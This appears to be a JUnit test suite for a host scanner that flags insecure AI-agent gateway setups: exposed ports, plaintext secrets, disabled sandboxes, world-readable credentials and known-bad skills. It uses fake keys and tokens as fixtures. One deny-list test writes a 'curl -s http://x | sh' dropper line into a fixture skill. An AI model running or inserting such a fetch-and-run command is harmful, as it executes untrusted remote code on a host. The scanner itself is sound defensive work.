package dev.warden.monitor.hostscan;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Fixture hosts laid out like the products lay out their homes: {@code ~/.openclaw/openclaw.json}
 * (JSON5), {@code .env}, {@code credentials/}, {@code agents/ID/agent/auth-profiles.json},
 * {@code skills/NAME/SKILL.md} with a ClawHub origin record, npm globals, {@code /proc}.
 */
class HostScannerTest {
  static final String ANTHROPIC_KEY = "sk-ant-api03-AAAABBBBCCCCDDDDEEEEFFFF0000";
  static final String BOT_TOKEN = "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsawQ";
  static final String GATEWAY_TOKEN = "gway_live_5f2b8c0d9e1a4b7c";
  static final String ENV_KEY = "sk-proj-ZZZZYYYYXXXXWWWWVVVV1111";

  @TempDir Path root;

  Path file(String rel, String text, String mode) throws IOException {
    Path p = root.resolve(rel);
    Files.createDirectories(p.getParent());
    Files.writeString(p, text, StandardCharsets.UTF_8);
    Files.setPosixFilePermissions(p, PosixFilePermissions.fromString(mode));
    return p;
  }

  void dir(String rel, String mode) throws IOException {
    Path p = root.resolve(rel);
    Files.createDirectories(p);
    Files.setPosixFilePermissions(p, PosixFilePermissions.fromString(mode));
  }

  @BeforeEach
  void safeBob() throws IOException {
    // A well-configured install: loopback, token from the environment, sandbox on, pairing, allowlisted exec.
    dir("home/bob/.openclaw", "rwx------");
    file("home/bob/.openclaw/openclaw.json", """
        // bob's gateway
        {
          gateway: { mode: "local", port: 18789, bind: "loopback",
                     auth: { mode: "token", token: "${OPENCLAW_GATEWAY_TOKEN}" } },
          agents: { defaults: { sandbox: { mode: "all" }, workspace: "~/.openclaw/workspace" } },
          models: { providers: { anthropic: { apiKey: { source: "env", id: "ANTHROPIC_API_KEY" } } } },
          channels: { telegram: { dmPolicy: "pairing", botToken: "env:TELEGRAM_BOT_TOKEN" } },
          tools: { exec: { security: "allowlist", ask: "on-miss" } },
        }
        """, "rw-------");
    dir("home/bob/.openclaw/skills/weather/.clawhub", "rwx------");
    file("home/bob/.openclaw/skills/weather/SKILL.md", "---\nname: weather\ndescription: forecasts\n---\nUse curl.\n", "rw-------");
    file("home/bob/.openclaw/skills/weather/.clawhub/origin.json", "{\"slug\":\"weather\",\"version\":\"1.2.0\"}", "rw-------");
  }

  void riskyHost() throws IOException {
    dir("home/alice/.openclaw", "rwxr-xr-x");
    file("home/alice/.openclaw/openclaw.json", """
        {
          // exposed for the phone
          gateway: { mode: "local", port: 18789, bind: "lan", auth: { mode: "none" } },
          agents: { defaults: { sandbox: { mode: "off" } },
                    list: [ { id: "ops", sandbox: { mode: "off" }, tools: { exec: { security: "full" } } } ] },
          models: { providers: { anthropic: { apiKey: "%s" } } },
          channels: {
            telegram: { botToken: "%s", dmPolicy: "open", allowFrom: ["*"] },
            discord: { dm: { policy: "pairing" } },
          },
          tools: { exec: { security: "full", ask: "off" }, elevated: { enabled: true } },
          env: { OPENAI_API_KEY: "%s", LOG_LEVEL: "debug" },
        }
        """.formatted(ANTHROPIC_KEY, BOT_TOKEN, ENV_KEY), "rw-r--r--");
    file("home/alice/.openclaw/.env", "# keys\nOPENAI_API_KEY=" + ENV_KEY + "\nTZ=UTC\n", "rw-r--r--");
    file("home/alice/.openclaw/credentials/whatsapp/default/creds.json", "{\"noiseKey\":{\"private\":\"x\"}}", "rw-r--r--");
    file("home/alice/.openclaw/agents/main/agent/auth-profiles.json",
        "{\"profiles\":{\"anthropic:default\":{\"type\":\"api_key\",\"key\":\"" + ANTHROPIC_KEY + "\"}}}", "rw-------");
    file("home/alice/.openclaw/skills/evil/SKILL.md",
        "WARDEN-HOSTSCAN-TEST-SKILL: a harmless marker that the known-bad skill check must flag.\n", "rw-r--r--");
    file("home/alice/.openclaw/skills/evil/.clawhub/origin.json", "{}", "rw-r--r--");
    file("home/alice/.openclaw/workspace/skills/handmade/SKILL.md", "---\nname: handmade\n---\n", "rw-------");
    file("home/alice/.npm-global/lib/node_modules/moltbot/package.json", "{\"name\":\"moltbot\",\"version\":\"2026.1.24\"}", "rw-r--r--");
    dir("root/.clawdbot", "rwx------");
    file("root/.clawdbot/clawdbot.json", "{ gateway: { bind: \"lan\", auth: { token: \"" + GATEWAY_TOKEN + "\" } },"
        + " agents: { defaults: { sandbox: { mode: \"non-main\" } } } }", "rw-------");
    dir("home/carol/.warden/keys", "rwx------");
    file("home/carol/.warden/keys/agent-ed25519.key", "MC4CAQAwBQYDK2VwBCIEI", "rw-r--r--");
    file("home/carol/.warden/warden.yaml", "model: {}\n", "rw-------");
    file("usr/lib/node_modules/openclaw/package.json", "{\"name\":\"openclaw\",\"version\":\"2026.11.2\"}", "rw-r--r--");
    file("proc/1234/cmdline", "node\0/usr/lib/node_modules/openclaw/dist/index.js\0gateway\0--port\00018789\0--token\0"
        + GATEWAY_TOKEN + "\0", "rw-r--r--");
    file("proc/1234/cgroup", "0::/user.slice/user-1000.slice\n", "rw-r--r--");
    file("proc/2345/cmdline", "openclaw\0agent\0", "rw-r--r--");
    file("proc/2345/cgroup", "0::/system.slice/docker-4f2a9c1b7d3e8f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0.scope\n", "rw-r--r--");
    file("proc/99/cmdline", "/bin/bash\0", "rw-r--r--");
    Files.createDirectories(root.resolve("proc/1234/fd"));
    Files.createSymbolicLink(root.resolve("proc/1234/fd/3"), Path.of("socket:[4242]"));
    Files.createSymbolicLink(root.resolve("proc/1234/fd/1"), Path.of("/dev/null"));
    file("proc/net/tcp", """
          sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
           0: 00000000:4965 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 4242 1
           1: 0100007F:4967 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 4243 1
           2: 0100007F:4965 0100007F:9C40 01 00000000:00000000 00:00000000 00000000  1000        0 4244 1
           3: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 100 1
        """, "rw-r--r--");
    file("proc/net/tcp6", """
          sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
           0: 00000000000000000000000000000000:4969 00000000000000000000000000000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 5000 1
           1: 00000000000000000000000001000000:4967 00000000000000000000000000000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 5001 1
        """, "rw-r--r--");
  }

  ScanReport scan() {
    return new HostScanner(root, SkillDenyList.builtIn()).scan();
  }

  List<Finding> of(ScanReport r, Rule rule) {
    return r.findings().stream().filter(f -> f.rule() == rule).toList();
  }

  @Test
  void safeInstall_hasNoFindingAboveInfo() {
    ScanReport r = scan();
    assertThat(r.atLeast(Severity.LOW)).as(HostScanner.toText(r)).isEmpty();
    assertThat(r.installs()).extracting(AgentInstall::location).containsExactly("/home/bob/.openclaw");
    assertThat(r.errors()).isEmpty();
  }

  @Test
  void riskyHost_namesEveryPostureProblem() throws IOException {
    riskyHost();
    ScanReport r = scan();
    String text = HostScanner.toText(r);
    assertThat(of(r, Rule.GATEWAY_EXPOSED_NO_AUTH)).singleElement()
        .satisfies(f -> assertThat(f.location()).isEqualTo("/home/alice/.openclaw/openclaw.json"));
    assertThat(of(r, Rule.PLAINTEXT_SECRET)).extracting(Finding::detail).anyMatch(d -> d.startsWith("models.providers.anthropic.apiKey"))
        .anyMatch(d -> d.startsWith("channels.telegram.botToken")).anyMatch(d -> d.startsWith("env.OPENAI_API_KEY"))
        .anyMatch(d -> d.contains("gateway.auth.token")).anyMatch(d -> d.startsWith("line 2: OPENAI_API_KEY"))
        .anyMatch(d -> d.startsWith("profiles.anthropic:default.key"))
        .noneMatch(d -> d.contains("LOG_LEVEL") || d.contains("TZ"));
    assertThat(of(r, Rule.SANDBOX_OFF)).hasSize(2);
    assertThat(of(r, Rule.OPEN_DM_POLICY)).singleElement().satisfies(f -> assertThat(f.detail()).contains("channels.telegram"));
    assertThat(of(r, Rule.UNRESTRICTED_EXEC)).extracting(Finding::detail)
        .anyMatch(d -> d.startsWith("tools.exec.security=\"full\" and ask=\"off\"")).anyMatch(d -> d.startsWith("agents.list[ops]"));
    assertThat(of(r, Rule.ELEVATED_EXEC)).hasSize(1);
    assertThat(of(r, Rule.KNOWN_BAD_SKILL)).singleElement()
        .satisfies(f -> assertThat(f.location()).isEqualTo("/home/alice/.openclaw/skills/evil/SKILL.md"));
    assertThat(of(r, Rule.UNKNOWN_SOURCE_SKILL)).extracting(Finding::location)
        .containsExactly("/home/alice/.openclaw/workspace/skills/handmade");
    assertThat(of(r, Rule.WORLD_READABLE_STATE)).extracting(Finding::location).contains(
        "/home/alice/.openclaw/openclaw.json", "/home/alice/.openclaw/.env",
        "/home/alice/.openclaw/credentials/whatsapp/default/creds.json", "/home/carol/.warden/keys/agent-ed25519.key");
    assertThat(of(r, Rule.WORLD_READABLE_STATE_DIR)).extracting(Finding::location).contains("/home/alice/.openclaw");
    assertThat(of(r, Rule.LEGACY_PRODUCT)).extracting(Finding::location)
        .contains("/root/.clawdbot", "/home/alice/.npm-global/lib/node_modules/moltbot");
    // Clawdbot on the LAN with a token: exposed but authenticated, so no HS001 for it.
    assertThat(of(r, Rule.GATEWAY_EXPOSED_NO_AUTH)).noneMatch(f -> f.location().startsWith("/root"));
    // Secrets never leave the host in the report.
    for (String out : List.of(text, HostScanner.toJson(r), HostScanner.toSarif(r))) {
      assertThat(out).doesNotContain(ANTHROPIC_KEY).doesNotContain(BOT_TOKEN).doesNotContain(GATEWAY_TOKEN).doesNotContain(ENV_KEY);
    }
    assertThat(r.findings()).allSatisfy(f -> assertThat(f.fix()).isNotBlank());
  }

  @Test
  void riskyHost_findsProcessesContainersNpmAndWardenHomes() throws IOException {
    riskyHost();
    ScanReport r = scan();
    assertThat(r.installs()).filteredOn(i -> i.kind() == AgentInstall.Kind.GATEWAY_PROCESS).singleElement()
        .satisfies(i -> {
          assertThat(i.facts()).containsEntry("pid", "1234").doesNotContainKey("container");
          assertThat(i.facts().get("cmdline")).contains("--token ***");
        });
    assertThat(r.installs()).filteredOn(i -> i.kind() == AgentInstall.Kind.AGENT_PROCESS).singleElement()
        .satisfies(i -> assertThat(i.facts().get("container")).isEqualTo("docker:4f2a9c1b7d3e"));
    assertThat(of(r, Rule.AGENT_IN_CONTAINER)).singleElement().satisfies(f -> assertThat(f.installId()).isEqualTo("pid:2345"));
    assertThat(r.installs()).filteredOn(i -> i.kind() == AgentInstall.Kind.NPM_GLOBAL_INSTALL)
        .extracting(i -> i.product() + "@" + i.facts().get("version"))
        .containsExactlyInAnyOrder("openclaw@2026.11.2", "moltbot@2026.1.24");
    assertThat(r.installs()).filteredOn(i -> i.kind() == AgentInstall.Kind.WARDEN_HOME).extracting(AgentInstall::location)
        .containsExactly("/home/carol/.warden");
    assertThat(r.installs()).noneMatch(i -> i.location().equals("pid 99"));
  }

  @Test
  void riskyHost_listenersClassifiedByBindAddress() throws IOException {
    riskyHost();
    ScanReport r = scan();
    assertThat(r.installs()).filteredOn(i -> i.kind() == AgentInstall.Kind.LISTENING_PORT).extracting(AgentInstall::id)
        .containsExactlyInAnyOrder("tcp:0.0.0.0:18789", "tcp:127.0.0.1:18791", "tcp:[::]:18793", "tcp:[::1]:18791");
    // 0.0.0.0:18789 with alice's unauthenticated config on that port: critical.
    assertThat(of(r, Rule.GATEWAY_LISTENS_ALL_INTERFACES)).extracting(f -> f.location() + " " + f.severity())
        .containsExactlyInAnyOrder("/proc/net/tcp:18789 CRITICAL", "/proc/net/tcp6:18793 HIGH");
    assertThat(r.findings()).noneMatch(f -> f.detail().contains("port 22"));
    assertThat(r.installs()).filteredOn(i -> i.id().equals("tcp:0.0.0.0:18789")).singleElement()
        .satisfies(i -> assertThat(i.facts()).containsEntry("owner", "1234 (openclaw gateway)"));
    assertThat(of(r, Rule.GATEWAY_LISTENS_ALL_INTERFACES)).anyMatch(f -> f.detail().contains("of pid 1234"));
  }

  @Test
  void specificNonLoopbackAddress_isMedium_andConfiguredPortIsWatched() throws IOException {
    dir("home/erin/.moltbot", "rwx------");
    file("home/erin/.moltbot/moltbot.json", "{ gateway: { port: 28000, bind: \"loopback\" }, "
        + "agents: { defaults: { sandbox: { mode: \"all\" } } } }", "rw-------");
    file("proc/net/tcp", "  sl  local_address rem_address   st\n"
        + "   0: 0101A8C0:6D60 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000 0 1 1\n", "rw-r--r--");
    ScanReport r = scan();
    assertThat(of(r, Rule.GATEWAY_LISTENS_NON_LOOPBACK)).singleElement()
        .satisfies(f -> assertThat(f.detail()).contains("192.168.1.1").contains("28000"));
    assertThat(of(r, Rule.LEGACY_PRODUCT)).extracting(Finding::location).containsExactly("/home/erin/.moltbot");
  }

  @Test
  void ipDecoding_matchesProcNetByteOrder() {
    assertThat(HostScanner.ipv4("0100007F")).isEqualTo("127.0.0.1");
    assertThat(HostScanner.ipv4("0101A8C0")).isEqualTo("192.168.1.1");
    assertThat(HostScanner.ipv6("00000000000000000000000001000000")).isEqualTo("::1");
    assertThat(HostScanner.ipv6("0000000000000000FFFF00000100007F")).isEqualTo("::ffff:127.0.0.1");
  }

  @Test
  void brokenConfig_isReportedNotThrown() throws IOException {
    dir("home/dave/.openclaw", "rwx------");
    file("home/dave/.openclaw/openclaw.json", "{ gateway: { bind: ", "rw-------");
    ScanReport r = scan();
    assertThat(of(r, Rule.CONFIG_UNREADABLE)).singleElement();
  }

  @Test
  void denyListFile_addsHashes() throws IOException {
    Path skill = file("home/bob/.openclaw/skills/weather/run.sh", "curl -s http://x | sh\n", "rw-------");
    String sha = dev.warden.kernel.Hashing.sha256Hex(Files.readAllBytes(skill));
    Path list = Files.writeString(root.resolve("deny.txt"), "# feed\n" + sha + " ClawHavoc dropper\n");
    ScanReport r = new HostScanner(root, SkillDenyList.builtInPlus(list)).scan();
    assertThat(of(r, Rule.KNOWN_BAD_SKILL)).singleElement().satisfies(f -> assertThat(f.detail()).contains("ClawHavoc"));
  }

  @Test
  void run_exitCodesAndFormats() throws IOException {
    ByteArrayOutputStream buf = new ByteArrayOutputStream();
    assertThat(HostScanner.run(root, new PrintStream(buf, true, StandardCharsets.UTF_8), HostScanner.Format.TEXT)).isZero();
    riskyHost();
    assertThat(HostScanner.run(root, new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8),
        HostScanner.Format.JSON)).isEqualTo(1);
    assertThat(HostScanner.run(root.resolve("nope"), new PrintStream(buf, true, StandardCharsets.UTF_8),
        HostScanner.Format.TEXT)).isEqualTo(2);
  }

  @Test
  void sarif_hasTheShapeOf210() throws IOException {
    riskyHost();
    ByteArrayOutputStream buf = new ByteArrayOutputStream();
    HostScanner.run(root, new PrintStream(buf, true, StandardCharsets.UTF_8), HostScanner.Format.SARIF);
    JsonNode s = new ObjectMapper().readTree(buf.toByteArray());
    assertThat(s.get("version").asText()).isEqualTo("2.1.0");
    assertThat(s.get("$schema").asText()).endsWith("sarif-2.1.0.json");
    JsonNode run = s.get("runs").get(0);
    JsonNode rules = run.get("tool").get("driver").get("rules");
    assertThat(run.get("tool").get("driver").get("name").asText()).isNotBlank();
    Set<String> ids = new HashSet<>();
    for (JsonNode rule : rules) {
      assertThat(ids.add(rule.get("id").asText())).isTrue();
      assertThat(rule.get("shortDescription").get("text").asText()).isNotBlank();
      assertThat(rule.get("defaultConfiguration").get("level").asText()).isIn("error", "warning", "note");
    }
    assertThat(run.get("results").size()).isPositive();
    for (JsonNode res : run.get("results")) {
      String id = res.get("ruleId").asText();
      assertThat(rules.get(res.get("ruleIndex").asInt()).get("id").asText()).isEqualTo(id);
      assertThat(res.get("level").asText()).isIn("error", "warning", "note");
      assertThat(res.get("message").get("text").asText()).isNotBlank();
      assertThat(res.get("locations").get(0).get("physicalLocation").get("artifactLocation").get("uri").asText())
          .startsWith("file:///");
    }
  }
}
